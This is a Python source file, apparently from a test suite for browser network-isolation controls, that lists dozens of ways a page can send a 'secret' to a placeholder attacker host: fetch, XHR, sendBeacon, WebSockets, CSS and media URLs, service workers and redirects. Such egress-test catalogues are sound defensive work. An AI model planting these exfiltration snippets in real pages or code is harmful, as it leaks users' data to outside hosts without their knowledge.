"""Vectors that load: scripts that fetch, parts of a page, workers, sockets, beacons."""

from __future__ import annotations

from .vector import Answer, Vector, redirect, script

FETCH = "fetch('%evil%/?s=secret', {mode: 'no-cors'})"

FETCHES = (
    Vector("fetch", script=FETCH),
    Vector(
        "fetch_keepalive_unload",
        script="addEventListener('pagehide', () => fetch('%evil%/', {method: 'POST', mode: 'no-cors', "
        "keepalive: true, body: 'secret'}))",
        way="leave",
    ),
    Vector("fetch_later", script="fetchLater('https://%host%/?s=secret')", secure=True, way="leave", fires="tcp"),
    Vector("xhr", script="const x = new XMLHttpRequest(); x.open('GET', '%evil%/?s=secret'); x.send()"),
    Vector("fetch_ip_literal", script="fetch('http://%ip%/?s=secret', {mode: 'no-cors'})"),
    Vector("fetch_other_port", script="fetch('http://good.test:8081/', {mode: 'no-cors'})", other=(8081,)),
    Vector("fetch_https_connect", script="fetch('https://%host%/?s=secret', {mode: 'no-cors'})", fires="tcp"),
)

PARTS = (
    Vector("img", page='<img src="%evil%/?s=secret">'),
    Vector("script_src", page='<script src="%evil%/a.js"></script>'),
    Vector("dynamic_import", script="import('%evil%/a.js')"),
    Vector("css_url", page='<div style="width: 9px; height: 9px; background: url(%evil%/?s=secret)"></div>'),
    Vector(
        "css_import_font",
        page="<style>@import '%evil%/a.css'; @font-face { font-family: e; src: url(%evil%/e.woff2) }</style>"
        '<p style="font-family: e">text</p>',
    ),
    Vector(
        "media_track",
        page='<video src="%evil%/v.mp4" preload="auto" autoplay muted></video><audio src="%evil%/a.mp3" '
        'preload="auto"></audio><video><track default src="%evil%/t.vtt"></video>',
    ),
    Vector(
        "svg_use_image", page='<svg><image href="%evil%/i.png" width="9" height="9"/><use href="%evil%/u#a"/></svg>'
    ),
    Vector("favicon", page='<link rel="icon" href="%evil%/icon.png">', fires=""),
    Vector("manifest", page='<link rel="manifest" href="%evil%/app.json">', fires=""),
)

SOCKETS = (
    Vector("websocket", script="new WebSocket('ws://%host%/?s=secret')"),
    Vector(
        "websocket_worker",
        script="new Worker('websocket_worker/w.js')",
        files={"w.js": script("new WebSocket('ws://%host%/?s=secret')")},
    ),
    Vector("websocketstream", script="new WebSocketStream('ws://%host%/?s=secret')", secure=True),
    Vector("eventsource", script="new EventSource('%evil%/?s=secret')"),
)

BEACONS = (
    Vector("sendbeacon", script="navigator.sendBeacon('%evil%/', 'secret')"),
    Vector(
        "sendbeacon_unload",
        script="addEventListener('pagehide', () => navigator.sendBeacon('%evil%/', 'secret'))",
        way="leave",
    ),
    Vector("a_ping", page='<a id="x" ping="%evil%/?s=secret" href="%good%/blank">go</a>', way="click"),
)


def service_worker(name: str) -> str:
    """What the page does to start its service worker and to tell it to go on."""
    return f"""
        await navigator.serviceWorker.register('{name}/sw.js', {{scope: '/{name}'}});
        (await navigator.serviceWorker.ready).active.postMessage('go');
    """


WORKERS = (
    Vector("worker_fetch", script="new Worker('worker_fetch/w.js')", files={"w.js": script(FETCH)}),
    Vector("sharedworker_fetch", script="new SharedWorker('sharedworker_fetch/w.js')", files={"w.js": script(FETCH)}),
    Vector(
        "serviceworker_fetch",
        script=service_worker("serviceworker_fetch"),
        files={"sw.js": script(f"onmessage = event => event.waitUntil({FETCH})")},
        secure=True,
    ),
    Vector(
        "serviceworker_import",
        script=service_worker("serviceworker_import"),
        files={"sw.js": script("importScripts('%evil%/a.js')")},
        secure=True,
    ),
    Vector(
        "serviceworker_ws",
        script=service_worker("serviceworker_ws"),
        files={"sw.js": script("onmessage = () => { self.socket = new WebSocket('ws://%host%/?s=secret') }")},
        secure=True,
    ),
)

EXTRAS = (
    Vector(
        "serviceworker_answers",
        script="""
            await navigator.serviceWorker.register('serviceworker_answers/sw.js', {scope: '/serviceworker_answers'});
            await navigator.serviceWorker.ready;
            const frame = document.createElement('iframe');
            frame.src = '/serviceworker_answers/inner';
            document.body.append(frame);
        """,
        files={
            "sw.js": script(f"onfetch = event => event.respondWith({FETCH})"),
            "inner": Answer("inner"),
        },
        secure=True,
        extra=True,
    ),
    Vector("base_href", page='<base href="%evil%/"><img src="i.png">', extra=True),
    Vector("img_srcset", page='<img srcset="%evil%/a.png 1x, %evil%/b.png 2x">', extra=True),
    Vector("video_poster", page='<video poster="%evil%/p.png"></video>', extra=True),
    Vector(
        "redirect_worker",
        script="new Worker('redirect_worker/w.js')",
        files={"w.js": script("importScripts('r.js')"), "r.js": redirect("%evil%/a.js")},
        extra=True,
    ),
    Vector(
        "redirect_eventsource",
        script="new EventSource('redirect_eventsource/r')",
        files={"r": redirect("%evil%/")},
        extra=True,
    ),
    Vector(
        "beacon_on_close",
        script="addEventListener('pagehide', () => navigator.sendBeacon('%evil%/', 'secret'))",
        way="close",
        fires="",  # whether it gets out before the tab is gone is a race
        extra=True,
    ),
)

LOADS = (*FETCHES, *PARTS, *SOCKETS, *BEACONS, *WORKERS, *EXTRAS)
